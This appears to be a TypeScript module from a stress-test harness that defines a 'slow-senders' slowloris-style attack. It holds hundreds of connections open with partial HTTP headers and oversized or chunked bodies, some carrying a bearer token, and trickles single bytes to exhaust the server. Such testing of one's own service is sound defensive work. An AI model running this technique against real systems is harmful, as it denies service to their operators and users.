import type { Socket } from 'node:net';
import type { Attack } from '../../attack.ts';
import { lines } from '../../attacker.ts';

export const slowSenders: Attack = {
  name: 'slow-senders',
  sentence: 'headers and bodies that come byte by byte on hundreds of connections',
  patienceS: 10,
  async run(attacker) {
    const token = await attacker.strikers.token('integrator');
    const body = { 'content-type': 'application/json', 'content-length': '4000000' };
    const beginnings = [
      'GET /healthz HTTP/1.1\r\nhost: attacked\r\nx-slow: ',
      `${lines('POST /auth/login/', body)}{`,
      `${lines('POST /point_of_interest/', { ...body, authorization: `Bearer ${token}` })}{`,
      `${lines('POST /image/', { authorization: `Bearer ${token}`, 'transfer-encoding': 'chunked', 'content-type': 'multipart/form-data; boundary=x' })}1\r\n-\r\n`,
    ];
    const sockets: Socket[] = [];
    for (let number = 0; number < attacker.amount(300, 50, 1500); number++)
      sockets.push(attacker.dial(beginnings[number % beginnings.length], number));
    for (let time = 0; time < attacker.amount(8, 4, 30); time++) {
      for (const socket of sockets) if (!socket.destroyed) socket.write('a');
      await attacker.pause(0.5);
    }
  },
};
